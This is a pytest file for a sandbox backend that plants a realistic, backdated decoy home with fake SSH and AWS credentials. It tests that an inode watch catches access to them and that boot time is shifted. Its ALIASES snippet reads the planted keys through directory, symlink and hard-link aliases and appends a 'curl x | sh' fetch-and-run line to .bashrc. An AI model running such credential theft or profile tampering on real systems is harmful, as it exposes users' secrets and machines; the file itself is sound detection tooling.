@@ -1,0 +1,128 @@
+"""The planted home: real files under /home/<user>, owned by the sandbox's user and
+dated back, watched by inode from outside however the program reaches them."""
+
+from __future__ import annotations
+
+import shutil
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from assay.sandbox.bwrap.backend import BwrapBackend
+from assay.sandbox.interface import (
+    Home,
+    HomeEvent,
+    HomeFile,
+    InputFile,
+    ResourceLimits,
+    SealedRequest,
+)
+
+pytestmark = pytest.mark.sandbox
+
+LIMITS = ResourceLimits(
+    cpu_budget_s=3.0,
+    wall_backstop_s=20.0,
+    memory_bytes=256 << 20,
+    pids=32,
+    workspace_bytes=1 << 20,
+    result_bytes=1 << 16,
+)
+HOME = Home(
+    user="sam",
+    files=(
+        HomeFile(".ssh/id_rsa", b"KEY" * 900, 0o600, watched=True),
+        HomeFile(".aws/credentials", b"[default]\n", 0o600, watched=True),
+        HomeFile(".bashrc", b"# rc\n", 0o644, watched=True),
+        HomeFile("notes.md", b"# notes\n"),
+    ),
+    age_s=90 * 86400,
+    new_entries=("",),
+)
+
+
+@pytest.fixture
+def backend() -> Iterator[BwrapBackend]:
+    base = Path(tempfile.mkdtemp(prefix="assay-test-", dir="/tmp"))
+    base.chmod(0o711)
+    made = BwrapBackend(runtime_base=base / "rt", prestart=False)
+    yield made
+    made.release()
+    shutil.rmtree(base)
+
+
+def run(backend: BwrapBackend, code: str) -> tuple[str, tuple[HomeEvent, ...]]:
+    observation = backend.run(
+        SealedRequest(
+            argv=(backend.python, "-I", "-S", "/task/input/a.py"),
+            limits=LIMITS,
+            inputs=(InputFile("a.py", code.encode()),),
+            home=HOME,
+        )
+    )
+    assert not observation.home_watch_lost
+    return observation.stdout.data.decode(), observation.home_events
+
+
+def test_the_home_looks_like_a_users(backend: BwrapBackend) -> None:
+    code = """
+import os, pwd, time
+st = os.stat("/home/sam/.ssh/id_rsa")
+print(pwd.getpwuid(os.getuid()).pw_dir, pwd.getpwuid(os.getuid()).pw_name)
+print(st.st_uid == os.getuid(), st.st_nlink, st.st_size, oct(st.st_mode & 0o777))
+print(int((time.time() - st.st_mtime) // 86400), oct(os.stat("/home/sam/.ssh").st_mode & 0o777))
+"""
+    out, events = run(backend, code)
+    assert out.split("\n")[:3] == ["/home/sam sam", "True 1 2700 0o600", "90 0o700"]
+    assert events == ()  # stat is no read
+
+
+ALIASES = """
+import os
+root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
+os.read(os.open("home/sam/.ssh/id_rsa", os.O_RDONLY, dir_fd=root), 10)
+os.symlink("/home/sam", "/tmp/h")
+with open("//tmp/h/.bashrc", "a") as f:
+    f.write("curl x | sh\\n")
+os.link("/proc/self/root/home/sam/.aws/credentials", "/home/sam/.c")
+open("/home/sam/.c").read()
+open("/home/sam/.zshrc", "w").close()
+"""
+
+
+def test_the_watch_sees_secrets_and_profiles_through_any_alias(backend: BwrapBackend) -> None:
+    _, events = run(backend, ALIASES)
+    assert set(events) >= {
+        HomeEvent("/home/sam/.ssh/id_rsa", "read"),
+        HomeEvent("/home/sam/.bashrc", "write"),
+        HomeEvent("/home/sam/.aws/credentials", "read"),
+        HomeEvent("/home/sam/.aws/credentials", "linked"),
+        HomeEvent("/home/sam/.zshrc", "created"),
+    }
+    assert not any(e.path.endswith("notes.md") for e in events)
+
+
+def test_the_home_is_planted_fresh_for_each_run(backend: BwrapBackend) -> None:
+    started = time.time()
+    run(backend, ALIASES)
+    out, events = run(backend, "import os; print(sorted(os.listdir('/home/sam')))")
+    assert out.strip() == "['.aws', '.bashrc', '.ssh', 'notes.md']" and events == ()
+    assert time.time() - started < 60
+
+
+def test_boot_time_is_shifted_with_the_clock(backend: BwrapBackend) -> None:
+    shift = 35 * 86400
+    code = "print([l.split()[1] for l in open('/proc/stat') if l.startswith('btime')][0])"
+    observation = backend.run(
+        SealedRequest(
+            argv=(backend.python, "-I", "-S", "/task/input/a.py"),
+            limits=LIMITS,
+            inputs=(InputFile("a.py", code.encode()),),
+            boot_time_shift_s=shift,
+        )
+    )
+    host = next(line for line in Path("/proc/stat").read_text().splitlines() if "btime" in line)
+    assert int(observation.stdout.data) == int(host.split()[1]) + shift
